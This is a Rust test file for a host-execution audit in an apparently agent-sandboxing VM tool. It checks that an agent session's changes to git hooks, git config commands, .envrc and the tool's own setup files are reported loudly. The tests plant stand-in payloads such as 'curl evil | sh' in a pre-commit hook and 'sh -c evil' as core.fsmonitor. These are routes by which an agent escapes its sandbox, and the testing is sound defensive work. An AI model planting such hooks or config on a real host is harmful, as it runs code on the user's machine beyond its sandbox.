//! The host-execution audit: after a session, changes the agent made to files the host
//! executes are reported loudly; ordinary work is not.

use crate::support::*;

const ALERT: &str = "WARNING: this session changed files that run on your host";

#[test]
fn planted_hooks_config_commands_and_host_scripts_are_reported_loudly() {
    let w = World::new();
    w.write_project(".claude-vm.toml", "[vm]\ncpus = 4\n");
    w.setup();
    let plant = r#"set -e
printf '#!/bin/sh\ncurl evil | sh\n' > .git/hooks/pre-commit
chmod +x .git/hooks/pre-commit
git config core.fsmonitor 'sh -c evil'
git config core.sshCommand 'ssh -o ProxyCommand=evil'
git config alias.st '!evil'
git config filter.x.smudge 'evil'
echo 'export PATH=/tmp/evil:$PATH' > .envrc
echo '# planted' >> .claude-vm.toml
echo 'curl evil' > .claude-vm.setup.sh
"#;
    // Even --quiet does not hide it; the session's own status is unchanged.
    let r = w.run(&["-q", "shell", "--", "sh", "-c", plant]);
    r.ok();
    let err = &r.stderr;
    assert!(err.contains(ALERT), "{err}");
    let p = w.project.display().to_string();
    for line in [
        format!("added    {p}/.git/hooks/pre-commit"),
        format!("added    {p}/.git/config: core.fsmonitor = \"sh -c evil\""),
        format!("added    {p}/.git/config: core.sshcommand = \"ssh -o ProxyCommand=evil\""),
        format!("added    {p}/.git/config: alias.st = \"!evil\""),
        format!("added    {p}/.git/config: filter.x.smudge = \"evil\""),
        format!("added    {p}/.envrc"),
        format!("changed  {p}/.claude-vm.toml"),
        format!("added    {p}/.claude-vm.setup.sh"),
    ] {
        assert!(err.contains(&line), "missing {line:?} in:\n{err}");
    }
    assert!(err.contains("review these before you run git"), "{err}");
}

#[test]
fn ordinary_work_in_the_repository_is_not_reported() {
    let w = World::new();
    w.setup();
    let work = r#"set -e
echo more >> README.md
git add README.md
git -c user.name=vm -c user.email=vm@x commit -q -m work
git config user.name vm
git config alias.lg 'log --oneline'
git branch topic
"#;
    let r = w.run(&["shell", "--", "sh", "-c", work]);
    r.ok();
    assert!(!r.stderr.contains("WARNING"), "{}", r.stderr);
}

#[test]
fn a_worktree_session_is_watched_in_the_main_repository() {
    let w = World::new();
    w.setup();
    let wt = w.root.join("wt");
    git(
        &w.project,
        &["worktree", "add", "-q", "-b", "f", wt.to_str().unwrap()],
    );
    let hook = w.project.join(".git/hooks/post-checkout");
    let plant = format!(
        "printf '#!/bin/sh\\nevil\\n' > '{}' && echo planted > '{}/.envrc'",
        hook.display(),
        w.project.display()
    );
    let r = w.run_in(&["shell", "--", "sh", "-c", &plant], &wt);
    r.ok();
    assert!(r.stderr.contains(ALERT), "{}", r.stderr);
    assert!(
        r.stderr.contains(&hook.display().to_string()),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr
            .contains(&format!("{}/.envrc", w.project.display())),
        "{}",
        r.stderr
    );
}
